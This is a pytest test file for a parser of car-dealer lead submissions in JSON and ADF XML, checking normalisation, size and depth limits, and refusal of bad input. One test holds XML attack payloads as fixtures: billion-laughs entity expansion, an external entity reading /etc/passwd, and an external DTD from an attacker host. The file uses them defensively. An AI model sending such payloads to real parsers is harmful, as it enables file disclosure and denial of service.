"""Inbound lead submissions: JSON and ADF 1.0 XML, lenient but safe."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from dealerflow.contracts.inbound import (
    LeadSubmissionError,
    VehicleInterest,
    parse_lead_submission,
    parse_lead_submissions,
)

FIXTURES = Path(__file__).parent / "fixtures" / "adf"


def _fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def test_realistic_adf_from_a_chinese_portal() -> None:
    lead = parse_lead_submission(_fixture("autohome_new_car.xml"), "application/xml")
    assert lead.format == "adf"
    assert lead.submission_id == "AH-20260301-000731"
    assert lead.dealer_id == "sh-pudong-01"  # <vendor><id source="dealerflow">
    assert lead.requested_at == datetime(2026, 3, 1, 2, 15, 32, tzinfo=UTC)
    assert lead.source == "auto_portal"
    assert lead.source_detail == "汽车之家 Autohome"
    customer = lead.customer
    assert customer.name == "张伟"  # family name first, no space
    assert customer.phones == ["+8613800138000"]  # the fax is not a way to call
    assert customer.email == "zhang.wei@example.cn"
    assert customer.preferred_contact == "phone"
    assert customer.address is not None
    assert customer.address.city == "上海"
    assert customer.purchase_by == date(2026, 3, 31)
    assert customer.timeframe == "一个月内"
    assert [v.model for v in lead.vehicles_of_interest] == ["Seal"]
    wanted = lead.vehicles_of_interest[0]
    assert wanted.price is not None
    assert str(wanted.price.amount) == "219800"
    assert wanted.attributes["colorcombination.exteriorcolor"] == "极地白"
    (trade_in,) = lead.trade_ins
    assert trade_in.interest == VehicleInterest.TRADE_IN
    assert trade_in.vin == "LSVAG2180G2123456"
    assert trade_in.odometer_km == 86000
    # Vendor extras (namespaced tags, unknown attributes) are kept, not dropped.
    assert lead.attributes["prospect.leadscore"] == "87"
    assert lead.attributes["prospect.campaign@code"] == "SPRING26"
    assert lead.attributes["prospect.customer.wechat"] == "zhangwei_88"
    assert lead.attributes["prospect.customer.contact[0].phone@fax"] == "021-5888 8888"


def test_uppercase_tags_legacy_encoding_and_odd_processing_instruction() -> None:
    lead = parse_lead_submission(_fixture("dongchedi_gb2312_uppercase.xml"), "text/xml")
    assert lead.customer.name == "刘洋"
    assert lead.customer.phones == ["+8613901390000"]
    assert lead.requested_at == datetime(2026, 3, 4, 6, 30, tzinfo=UTC)  # +08:00 assumed
    assert lead.vehicles[0].interest == VehicleInterest.TEST_DRIVE
    assert lead.vehicles[0].year is None
    assert lead.vehicles[0].attributes["year"] == "2026款"  # kept, not fatal


def test_several_prospects_and_foreign_numbers() -> None:
    body = _fixture("us_portal_two_prospects.xml")
    with pytest.raises(LeadSubmissionError, match="expected one prospect, found 2"):
        parse_lead_submission(body, "application/xml", default_region="US")
    first, second = parse_lead_submissions(body, "", default_region="US", dealer_id="sf-01")
    assert first.customer.name == "Anna Miller"
    assert first.customer.phones == ["+16502530000"]
    assert first.customer.preferred_contact == "email"
    assert first.dealer_id == "sf-01"
    rav4, civic = first.vehicles
    assert rav4.odometer_km == 20117  # 12,500 miles
    assert rav4.price is not None
    assert rav4.price.currency == "USD"
    assert civic.interest == "trade-in"
    assert civic.vin is None
    assert civic.attributes["vin"] == "NOT-A-VIN"
    assert second.customer.phones == []
    assert second.customer.email == "bob.lee@example.com"
    assert second.requested_at is None
    assert second.attributes["prospect.requestdate"] == "not a date"


def test_uncontactable_adf_is_refused_with_the_reason() -> None:
    with pytest.raises(LeadSubmissionError) as info:
        parse_lead_submission(_fixture("no_contact.xml"), "application/xml")
    assert "no way to contact the customer" in info.value.reason
    assert "12345" in info.value.reason


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<adf><prospect><customer><contact><name>&lol3;</name>
<email>a@example.com</email></contact></customer></prospect></adf>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<adf><prospect><customer><contact><name>&secret;</name>
<email>a@example.com</email></contact></customer></prospect></adf>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE adf SYSTEM "http://attacker.example/adf.dtd">
<adf><prospect><customer><contact><email>a@example.com</email></contact></customer>
</prospect></adf>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_unsafe_xml_is_refused(body: bytes) -> None:
    with pytest.raises(LeadSubmissionError, match="unsafe XML refused"):
        parse_lead_submission(body, "application/xml")


@pytest.mark.parametrize(
    ("body", "content_type", "reason"),
    [
        (b"<adf><prospect>", "application/xml", "malformed XML"),
        (b"<lead><name>x</name></lead>", "application/xml", "not an ADF document"),
        (b"<adf></adf>", "application/xml", "no <prospect>"),
        (b"", "application/json", "empty submission"),
        (b"name=x", "application/x-www-form-urlencoded", "unsupported content type"),
        (b"{broken", "application/json", "not valid JSON"),
        (b"[1, 2]", "application/json", "must be an object"),
        (
            b'<?xml version="1.0" encoding="klingon"?><adf/>',
            "application/xml",
            "unknown XML encoding",
        ),
    ],
)
def test_malformed_bodies_are_refused(body: bytes, content_type: str, reason: str) -> None:
    with pytest.raises(LeadSubmissionError, match=reason):
        parse_lead_submission(body, content_type)


def test_size_limit() -> None:
    padding = b" " * (256 * 1024)
    body = b"<adf><prospect><customer><contact><email>a@example.com</email>" + padding
    with pytest.raises(LeadSubmissionError, match="too large"):
        parse_lead_submission(body + b"</contact></customer></prospect></adf>", "text/xml")
    small = parse_lead_submission(
        b"<adf><prospect><customer><contact><email>a@example.com</email></contact>"
        b"</customer></prospect></adf>",
        "text/xml",
        max_bytes=1024,
    )
    assert small.customer.email == "a@example.com"


def test_deep_or_huge_documents_are_refused_while_reading() -> None:
    deep = b"<adf><prospect>" + b"<x>" * 5000 + b"</x>" * 5000 + b"</prospect></adf>"
    with pytest.raises(LeadSubmissionError, match="nested deeper than 32 elements"):
        parse_lead_submission(deep, "application/xml")
    many = b"<adf><prospect>" + b"<x/>" * 10_001 + b"</prospect></adf>"
    with pytest.raises(LeadSubmissionError, match="more than 10000 elements"):
        parse_lead_submission(many, "application/xml")
    deep_json = b'{"customer": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    with pytest.raises(LeadSubmissionError, match="nested too deeply"):
        parse_lead_submission(deep_json, "application/json")


def test_unknown_elements_nested_deep_within_the_limit_are_kept_in_order() -> None:
    inner = b"".join(b"<l%d>" % n for n in range(25)) + b"v"
    inner += b"".join(b"</l%d>" % n for n in reversed(range(25)))
    body = (
        b"<adf><prospect><customer><contact><email>a@example.com</email></contact></customer>"
        b'<extra a="1"><one>1</one>' + inner + b"<two>2</two></extra></prospect></adf>"
    )
    attributes = parse_lead_submission(body, "text/xml").attributes
    deepest = "prospect.extra." + ".".join(f"l{n}" for n in range(25))
    assert list(attributes) == [
        "prospect.extra@a",
        "prospect.extra.one",
        deepest,
        "prospect.extra.two",
    ]
    assert attributes[deepest] == "v"


def _json(**changes: object) -> bytes:
    document: dict[str, object] = {
        "submission_id": "web-881",
        "dealer_id": "sh-pudong-01",
        "requested_at": "2026-03-01T10:00:00+08:00",
        "source": "website",
        "customer": {"name": "李娜", "phones": ["139 0139 0000", "(021) 6888-8888"]},
        "vehicles": [{"interest": "buy", "make": "BYD", "model": "Seal"}],
    }
    document.update(changes)
    return json.dumps(document, ensure_ascii=False).encode()


def test_json_submission_is_normalised() -> None:
    lead = parse_lead_submission(_json(), "Application/JSON; charset=utf-8")
    assert lead.format == "json"
    assert lead.customer.phones == ["+8613901390000", "+862168888888"]
    assert lead.requested_at == datetime(2026, 3, 1, 2, tzinfo=UTC)
    assert lead.source == "website"
    assert lead.vehicles[0].model == "Seal"
    # the content type may be missing: the body is sniffed
    assert parse_lead_submission(_json(), "").submission_id == "web-881"


def test_json_single_phone_and_region() -> None:
    body = _json(customer={"name": "Anna", "phone": "(650) 253-0000"})
    lead = parse_lead_submission(body, "application/json", default_region="US")
    assert lead.customer.phones == ["+16502530000"]


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"customer": {"name": "无联系方式"}}, "no way to contact the customer"),
        ({"customer": {"name": "x", "phones": ["000"]}}, "unreadable phone numbers: 000"),
        ({"source": "pigeon"}, "source"),
        ({"vehicles": [{"vin": "SHORT"}]}, "vehicles.0.vin: VIN must be 17 characters"),
        ({"dealer_id": "bad dealer"}, "dealer_id"),
    ],
)
def test_invalid_json_submissions_are_refused(changes: dict[str, object], reason: str) -> None:
    with pytest.raises(LeadSubmissionError, match=reason) as info:
        parse_lead_submission(_json(**changes), "application/json")
    assert info.value.reason.startswith("invalid lead submission: ")
